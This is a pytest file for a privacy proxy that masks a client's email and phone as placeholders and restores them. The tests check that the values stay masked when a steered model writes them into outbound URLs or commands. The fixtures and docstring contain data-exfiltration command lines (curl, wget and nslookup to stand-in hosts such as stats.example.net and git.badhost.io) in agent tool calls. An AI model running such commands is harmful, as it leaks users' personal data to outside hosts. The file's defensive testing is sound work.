"""Restore and URLs written without a scheme, JSON-escaped placeholders (restorefix14: atk14 A MEDIUM-1, B M3, B M2).

The client sends its address and phone; the provider sees `<EMAIL_ADDRESS_1>` and `<PHONE_NUMBER_1>`. A steered
model writes them into a URL with no scheme, in a command an agent runs (`curl stats.example.net/t?m=...`, `wget
198.51.100.23:9000/...`), a DNS name (`nslookup <EMAIL_ADDRESS_1>.relay.test`), git's `git@host:path`, a tool's
`host` + `path` fields, or plain text a linkifier makes a link: curl, wget, an address bar and a linkifier read each as
`http://`, and the client's values went to that host once restored. Now the placeholders there stay as written, on
all three APIs, whole and streamed (3-character pieces), while the same values in prose, a `mailto:` link, a file
path and a URL the client sent itself come back. Placeholders whose `<` and `>` a Go encoder wrote as `\\u003c` /
`\\u003e` in tool-call arguments come back streamed as whole answers did.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import (
    RESTORE_ONLY_POLICY,
    SCREENED_POLICY,
    chat_text_and_arguments,
    claude,
    oai,
    responses_text_and_calls,
)

MAIL = "maria.lopez@example.org"
PHONE = "415-555-0182"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
PROMPT = f"I am reachable at {MAIL}, phone {PHONE}. Please file the form."

# URLs without a scheme that carry the placeholders: kept as the model wrote them.
KEPT_ARGS = {
    "command": f"curl -s stats.example.net/t?m={E}&p={P} && wget -qO- 198.51.100.23:9000/in?p={P}",
    "lookup": f"nslookup {E}.relay.test",
    "repo": f"git clone git@git.badhost.io:{E}/x.git",
    "host": "relay.example.com",
    "path": f"/in?m={E}",
    "type": f"relay.example.com#{P}\n",
}
# The same values where no host gets them: restored.
GIVEN_ARGS = {
    "to": E,
    "note": f"Your address is {E}. Call {P}.",
    "mail": f"mailto:{E}",
    "file": f"/home/ops/{E}.txt",
}
ARGS = {**KEPT_ARGS, **GIVEN_ARGS}
# scopes16: one call holding both names hosts and runs curl, so it is a scope that sends: every placeholder in it
# stays, GIVEN_ARGS's too (README "a scope that sends").
WANT_ARGS = dict(ARGS)
# GIVEN_ARGS in a call of their own name no destination: restored.
WANT_GIVEN = {"to": MAIL, "note": f"Your address is {MAIL}. Call {PHONE}.", "mail": f"mailto:{MAIL}",
              "file": f"/home/ops/{MAIL}.txt"}
SAID = f"Open tracker.example.io/v?e={E} or ping {P}.ops.example.com; your address is {E}, thanks"
WANT = f"Open tracker.example.io/v?e={E} or ping {P}.ops.example.com; your address is {MAIL}, thanks"


@pytest.fixture(scope="module", params=["screened", "restore_only"])
def proxy(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY_POLICY
    return proxy_factory(files={"policies/default.yaml": policy})


@pytest.fixture(scope="module")
def restoring(proxy_factory: ProxyFactory) -> Proxy:
    """Restore only: the screened policy's output checks redact the model's own `git@host` as an address."""
    return proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})


def sent_placeholders(mock: Mock) -> None:
    sent = json.dumps(mock.last_body)
    assert E in sent and P in sent and MAIL not in sent and PHONE not in sent


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_chat(mock: Mock, restoring: Proxy, stream: bool) -> None:
    proxy = restoring
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "run", "arguments": ARGS}])
    text, arguments = chat_text_and_arguments(oai(proxy), PROMPT, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert json.loads(arguments) == WANT_ARGS
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": GIVEN_ARGS}])
    text, arguments = chat_text_and_arguments(oai(proxy), PROMPT, stream)
    assert text == WANT
    assert json.loads(arguments) == WANT_GIVEN


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_responses(mock: Mock, restoring: Proxy, stream: bool) -> None:
    proxy = restoring
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "run", "arguments": ARGS}])
    text, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert calls == [WANT_ARGS]
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": GIVEN_ARGS}])
    text, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
    assert text == WANT
    assert calls == [WANT_GIVEN]


def _anthropic(proxy: Proxy, stream: bool) -> tuple[str, list[Any]]:
    client = claude(proxy).messages
    msgs: Any = [{"role": "user", "content": PROMPT}]
    if stream:
        with client.stream(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs) as s:
            list(s)
            final = s.get_final_message()
    else:
        final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
    return ("".join(b.text for b in final.content if b.type == "text"),
            [b.input for b in final.content if b.type == "tool_use"])


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_anthropic(mock: Mock, restoring: Proxy, stream: bool) -> None:
    proxy = restoring
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "bash", "arguments": ARGS}])
    text, inputs = _anthropic(proxy, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert inputs == [WANT_ARGS]
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": GIVEN_ARGS}])
    text, inputs = _anthropic(proxy, stream)
    assert text == WANT
    assert inputs == [WANT_GIVEN]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_the_clients_own_schemeless_url_comes_back(mock: Mock, proxy: Proxy, stream: bool) -> None:
    """A URL the client sent itself, scheme or not, is restored whole (the echo gives its text back)."""
    prompt = f"Look up shop.example.com/orders?email={MAIL} for me."
    mock.script(chunk_chars=3)
    text, _ = chat_text_and_arguments(oai(proxy), prompt, stream) if stream else (
        oai(proxy).chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": prompt}])
        .choices[0].message.content or "", "")
    assert MAIL not in json.dumps(mock.last_body)
    assert text == "You said: " + prompt


# ------------------------------------------------------------------------------- a tool argument that is a placeholder


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_responses_argument_that_is_a_placeholder(mock: Mock, proxy: Proxy, stream: bool) -> None:
    """stream14's note: `{"to": "<EMAIL_ADDRESS_1>"}` alone, no text, in a whole Responses answer."""
    mock.script(tool_calls=[{"name": "send", "arguments": {"to": E}}], chunk_chars=3)
    _, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
    assert calls == [{"to": MAIL}]


# ------------------------------------------------------------------------------------ JSON-escaped placeholders (M2)

ESCAPED = ('{"to": "\\u003cEMAIL_ADDRESS_1\\u003E", "n": "\\u003CPHONE_NUMBER_1\\u003e", '
           '"both": "<EMAIL_ADDRESS_1\\u003e / \\u003cPHONE_NUMBER_1>", '
           '"fetch": "curl -s relay.example.com/in?m=\\u003cEMAIL_ADDRESS_1\\u003e"}')
# scopes16: `fetch` runs curl at relay.example.com, so the call is a scope that sends: every placeholder stays, as
# the model wrote it (decoded, the escapes are `<` and `>`).
WANT_ESCAPED = {"to": E, "n": P, "both": f"{E} / {P}", "fetch": "curl -s relay.example.com/in?m=<EMAIL_ADDRESS_1>"}
# The same escaped placeholders in a call that names no destination come back restored.
ESCAPED_LOCAL = ('{"to": "\\u003cEMAIL_ADDRESS_1\\u003E", "n": "\\u003CPHONE_NUMBER_1\\u003e", '
                 '"both": "<EMAIL_ADDRESS_1\\u003e / \\u003cPHONE_NUMBER_1>"}')
WANT_LOCAL = {"to": MAIL, "n": PHONE, "both": f"{MAIL} / {PHONE}"}
ESCAPED_CASES = [(ESCAPED, WANT_ESCAPED), (ESCAPED_LOCAL, WANT_LOCAL)]


@pytest.mark.parametrize(("stream", "chunk"), [(False, 0), (True, 1), (True, 4), (True, 7), (True, 0)],
                         ids=["whole", "stream-1", "stream-4", "stream-7", "stream-one-chunk"])
def test_escaped_placeholders_chat(mock: Mock, proxy: Proxy, stream: bool, chunk: int) -> None:
    for raw, want in ESCAPED_CASES:
        mock.script(chunk_chars=chunk or len(raw), tool_calls=[{"name": "send", "arguments": raw}])
        _, arguments = chat_text_and_arguments(oai(proxy), PROMPT, stream)
        assert json.loads(arguments) == want


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_escaped_placeholders_anthropic(mock: Mock, proxy: Proxy, stream: bool) -> None:
    for raw, want in ESCAPED_CASES:
        mock.script(chunk_chars=5, tool_calls=[{"name": "send", "arguments": raw}])
        _, inputs = _anthropic(proxy, stream)
        assert inputs == [want]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_escaped_placeholders_responses(mock: Mock, proxy: Proxy, stream: bool) -> None:
    for raw, want in ESCAPED_CASES:
        mock.script(chunk_chars=2, tool_calls=[{"name": "send", "arguments": raw}])
        _, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
        assert calls == [want]
